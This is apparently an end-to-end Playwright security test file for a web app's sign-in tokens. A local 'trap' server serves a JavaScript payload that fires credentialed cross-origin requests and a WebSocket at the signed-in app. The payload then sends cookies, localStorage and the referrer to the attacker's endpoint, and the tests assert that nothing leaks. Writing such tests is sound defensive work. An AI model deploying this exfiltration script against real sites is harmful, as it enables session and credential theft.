"""A browser that is signed in here visits a server of somebody else on the same machine: whatever
arrives there opens nothing here."""

import contextlib
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page
from tests.backend.servers import Server, environment_of, servers, settings_in
from tests.e2e.conftest import PAGE

pytestmark = [pytest.mark.attack, pytest.mark.e2e, pytest.mark.slow]

HOME = """<!doctype html><a id="on" href="{trap}/prize">a prize</a>"""
TRAP = """<!doctype html><img src="/picture"><script>
const ours = "{ours}";
const sent = {{credentials: "include", mode: "no-cors"}};
const asked = [
    ["/stolen", {{credentials: "include"}}],
    [ours + "/api/runs", sent],
    [ours + "/api/loops", {{credentials: "include"}}],
    [ours + "/api/loops", {{...sent, method: "POST", body: "{{}}"}}],
];
function tell(texts, how) {{
    const kept = [document.cookie, JSON.stringify(localStorage), name, document.referrer];
    const told = encodeURIComponent([...texts, ...kept, how].join("|"));
    fetch("/told?" + told).then(() => {{
        document.title = "done";
    }});
}}
const read = asked.map((one) => fetch(...one).then((answer) => answer.text()));
Promise.allSettled(read).then((all) => {{
    const texts = all.map((one) => one.value ?? "");
    const socket = new WebSocket(ours.replace("http", "ws") + "/api/runs/x/stream", ["coloop.v1"]);
    socket.onopen = () => tell(texts, "opened");
    socket.onerror = () => tell(texts, "refused");
}});
</script>"""


class Trap(ThreadingHTTPServer):
    """A server of another user that keeps all it is sent."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.page = ""
        self.seen: list[str] = []

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class Answer(BaseHTTPRequestHandler):
    server: Trap

    def do_GET(self) -> None:
        self.server.seen.append(f"{self.path}\n{self.headers}")
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Nothing is printed."""


@contextlib.contextmanager
def trap(page: str) -> Iterator[Trap]:
    made = Trap()
    made.page = page
    serving = threading.Thread(target=made.serve_forever, daemon=True)
    serving.start()
    try:
        yield made
    finally:
        made.shutdown()
        made.server_close()
        serving.join()


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    if not (PAGE / "index.html").exists():
        pytest.skip("the page is not built; `make web` builds it")
    (tmp_path / "work").mkdir()
    with servers(environment_of(settings_in(tmp_path))) as start:
        yield start(COLOOP_KEEP_RUNS="false", COLOOP_STATIC_DIR=str(PAGE))


@pytest.fixture
def window(chromium: Browser) -> Iterator[BrowserContext]:
    with chromium.new_context() as window:
        window.set_default_timeout(60_000)
        yield window


@pytest.mark.parametrize("way", ["?token=", "#token="])
def test_what_arrives_at_another_port_opens_nothing_here(
    server: Server, window: BrowserContext, way: str
) -> None:
    page = window.new_page()
    page.goto(f"{server.url}/runs{way}{server.token}")
    page.get_by_role("link", name="Loops").first.wait_for()
    page.get_by_role("dialog").wait_for(state="hidden")
    with page.expect_response(lambda answer: "/api/runs" in answer.url) as answer:
        page.reload()
    assert answer.value.status == 200, "the browser is signed in"
    kept = page.evaluate("JSON.stringify(localStorage) + document.cookie")

    with trap(TRAP.format(ours=server.url)) as theirs:
        with trap(HOME.format(trap=f"http://127.0.0.1:{theirs.port}")) as home:
            page.goto(f"http://localhost:{home.port}/")
            page.click("#on")
            page.wait_for_function("document.title === 'done'")
        page.goto(f"{server.url}/runs")
        page.goto(f"http://127.0.0.1:{theirs.port}/again")
        page.wait_for_function("document.title === 'done'")

    arrived = "\n".join(theirs.seen)
    assert "/stolen" in arrived
    assert "/told" in arrived
    assert "cookie:" not in arrived.lower()
    assert "authorization:" not in arrived.lower()
    assert "%7Crefused" in arrived
    assert "%7Copened" not in arrived
    assert server.token not in arrived
    ticket = page_ticket(kept)
    assert ticket not in arrived
    with httpx.Client(base_url=server.url, trust_env=False) as replaying:
        for value in {ticket, server.token}:
            for name in ("coloop_session", f"coloop_session_{server.url.rpartition(':')[2]}"):
                headers = {"Cookie": f"{name}={value}"}
                assert replaying.get("/api/runs", headers=headers).status_code == 401


def page_ticket(kept: str) -> str:
    """What the page keeps for its origin."""
    found = kept.partition('"coloop.ticket":"')[2].partition('"')[0]
    assert found, f"the page keeps no ticket: {kept}"
    return found


def ticket_in(page: Page) -> str:
    """What the page was signed in with, once it is. A function to wait for would be evaluated in
    the page, which its policy forbids."""
    until = time.monotonic() + 60
    while not (ticket := page.evaluate("localStorage.getItem('coloop.ticket')")):
        assert time.monotonic() < until, "the page is not signed in"
        page.wait_for_timeout(50)
    return str(ticket)


@pytest.mark.parametrize("way", ["?token=", "#token="])
def test_the_token_leaves_the_address_the_history_and_the_log(
    server: Server, window: BrowserContext, way: str
) -> None:
    page = window.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{server.url}/runs?tab=a{'&' if way[0] == '?' else '#'}{way[1:]}{server.token}")
    ticket_in(page)
    page.get_by_role("link", name="Loops").first.click()
    page.wait_for_url("**/loops")
    page.go_back()
    page.wait_for_url("**/runs?tab=a")

    assert server.token not in page.evaluate("location.href + JSON.stringify(localStorage)")
    assert [url for url in asked[1:] if server.token in url] == []
    ticket = page.evaluate("localStorage.getItem('coloop.ticket')")
    assert [url for url in asked if ticket in url] == []
    server.stop()
    said = ""
    while line := server.lines.get(timeout=60):
        said += line
    assert server.token not in said
    assert ticket not in said


def test_a_token_behind_the_hash_of_an_open_page_signs_it_in_again(
    server: Server, window: BrowserContext
) -> None:
    page, beside = window.new_page(), window.new_page()
    page.goto(f"{server.url}/runs#token={server.token}")
    ticket_in(page)
    beside.goto(f"{server.url}/runs")
    first = page.evaluate("localStorage.getItem('coloop.ticket')")
    page.get_by_role("button", name="Theme and sign-out").click()
    page.get_by_role("menuitem", name="Sign out").click()
    page.get_by_role("dialog", name="Sign in").wait_for()
    beside.get_by_role("dialog", name="Sign in").wait_for()
    assert page.evaluate("localStorage.getItem('coloop.ticket')") is None
    bearer = {"Authorization": f"Bearer {first}"}
    with httpx.Client(base_url=server.url, trust_env=False, headers=bearer) as replaying:
        assert replaying.get("/api/runs").status_code == 401

    page.evaluate(f"location.hash = 'token={server.token}'")

    page.get_by_role("dialog", name="Sign in").wait_for(state="hidden")
    beside.get_by_role("dialog", name="Sign in").wait_for(state="hidden")
    assert server.token not in page.evaluate("location.href")
    beside.get_by_role("heading", name="Runs").first.wait_for()
